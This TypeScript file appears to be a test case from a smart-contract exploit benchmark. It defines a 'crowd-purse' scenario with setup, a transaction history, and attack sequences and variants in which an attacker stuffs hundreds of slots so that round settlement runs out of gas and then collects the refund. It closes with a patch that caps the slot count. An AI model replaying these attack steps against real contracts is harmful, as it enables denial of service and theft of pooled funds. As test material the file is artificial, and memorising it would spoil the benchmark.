import { declareCase } from '../lib/declare-case.ts'
import { crowd, deployWallet, ETHER, fundAll } from '../lib/set-up.ts'
import { actor, call, create, created, reverting, through } from '../lib/steps.ts'
import type { Artifact, Contract, Step } from '../lib/types.ts'

const NAME = 'crowd-purse'
const owner = actor(`${NAME}/owner`)
const operator = actor(`${NAME}/operator`)
const attacker = actor(`${NAME}/attacker`)
const users = crowd(NAME, 8)
const tenths = (amount: number) => (BigInt(amount) * ETHER) / 10n
const GAS = 20_000_000n
/** The round under attack and how many slots its members hold then. */
const ROUND = 3n
const MEMBERS = 21n

export default declareCase({
  about:
    'anyone may split a contribution into so many slots that settling the round runs out of gas, and the equal refund of a round given up then goes to him',
  class: 'denial-of-service',
  hardfork: 'cancun',
  units: [
    { compiler: '0.5.17', files: ['CrowdPurse.sol'] },
    { compiler: '0.8.30', optimizerRuns: 200, evmVersion: 'london', files: ['Attack.sol'] },
  ],

  async setUp(world) {
    await fundAll(world, [owner, operator, attacker, ...users], 100n * ETHER)
    const keeper = await world.deploy('PurseKeeper', [1_000_000n], operator)
    const purse = await world.deploy('CrowdPurse', [keeper.address, 100], owner)
    const wallet = await deployWallet(world, users[0]!, 40n * ETHER)
    await world.run(call(users[1]!, purse, 'contribute', [3], { value: 6n * ETHER }))
    return { purse, keeper, wallet }
  },
  protect: ({ purse }) => [purse],
  loss: ({ purse }) => [{ token: 'native', from: purse.address }],

  history({ purse, keeper, wallet }) {
    const by = (user: number, name: string, args: readonly unknown[] = [], value = 0n) =>
      call(users[user]!, purse, name, args, { value })
    const byWallet = (name: string, args: readonly unknown[] = [], value = 0n) =>
      through(wallet.address, by(0, name, args, value))
    const contribute = (user: number, count: number, amount: bigint) =>
      by(user, 'contribute', [count], amount)
    const keep = (name: string) => call(operator, keeper, name, [purse.address], { gas: 3_000_000n })
    return [
      contribute(2, 1, 2n * ETHER),
      byWallet('contribute', [4], tenths(50)),
      by(1, 'assign', [1, users[6]]),
      byWallet('assign', [5, users[7]]),
      reverting(by(2, 'assign', [0, users[2]])),
      by(3, 'addBonus', [], 3n * ETHER),
      reverting(contribute(3, 0, ETHER)),
      keep('work'),
      by(1, 'withdraw'),
      byWallet('withdraw'),
      by(6, 'withdraw'),
      contribute(4, 12, tenths(24)),
      contribute(5, 2, 3n),
      byWallet('contribute', [1], ETHER),
      by(3, 'withdraw'),
      keep('giveUp'),
      by(4, 'refund', [1, 0, 12]),
      byWallet('refund', [1, 14, 15]),
      reverting(by(5, 'refund', [1, 11, 13])),
      contribute(6, 5, 5n * ETHER),
      contribute(6, 1, tenths(7)),
      byWallet('addBonus', [], ETHER),
      call(owner, purse, 'contribute', [2], { value: tenths(13) }),
      call(owner, purse, 'setFee', [200]),
      reverting(call(owner, purse, 'setFee', [900])),
      reverting(by(2, 'settle')),
      keep('work'),
      call(owner, purse, 'collectFees', [owner]),
      by(6, 'withdraw'),
      call(owner, purse, 'withdraw'),
      contribute(1, 3, 9n * ETHER),
      byWallet('contribute', [6], 12n * ETHER),
      contribute(7, 12, 3n * ETHER),
      by(7, 'assign', [10, wallet.address]),
      by(5, 'addBonus', [], 4n * ETHER),
      reverting(by(4, 'abandon')),
      by(2, 'withdraw'),
    ]
  },

  attack: ({ purse, keeper }, { SlotStuffer }) =>
    stuffing(SlotStuffer!, purse, keeper, [{ count: 600n, value: 600n }]),
  variants: ({ purse, keeper }, { SlotStuffer }) => [
    stuffing(SlotStuffer!, purse, keeper, [
      { count: 400n, value: ETHER / 100n },
      { count: 380n, value: 380n },
    ]),
    [
      call(attacker, purse, 'contribute', [700n], { value: ETHER / 10n, gas: GAS }),
      call(operator, keeper, 'work', [purse.address], { gas: 3_000_000n }),
      call(attacker, purse, 'refund', [ROUND, MEMBERS, MEMBERS + 700n], { gas: GAS }),
    ],
  ],
  fix: [
    {
      file: 'CrowdPurse.sol',
      replace: '        uint96 each = uint96(msg.value / count);\n',
      by: '        require(round.slots.length + count <= 36, "too many slots");\n        uint96 each = uint96(msg.value / count);\n',
    },
  ],
})

/** Slots, the keeper's own attempt to settle, and the refund. */
function stuffing(
  artifact: Artifact,
  purse: Contract,
  keeper: Contract,
  parts: readonly { count: bigint; value: bigint }[],
): readonly Step[] {
  const contract = created(attacker, artifact, 0n)
  const total = parts.reduce((sum, { count }) => sum + count, 0n)
  return [
    create(attacker, artifact),
    ...parts.map(({ count, value }) =>
      call(attacker, contract, 'stuff', [purse.address, count], { value, gas: GAS }),
    ),
    call(operator, keeper, 'work', [purse.address], { gas: 3_000_000n }),
    call(attacker, contract, 'collect', [purse.address, ROUND, MEMBERS, MEMBERS + total], { gas: GAS }),
  ]
}
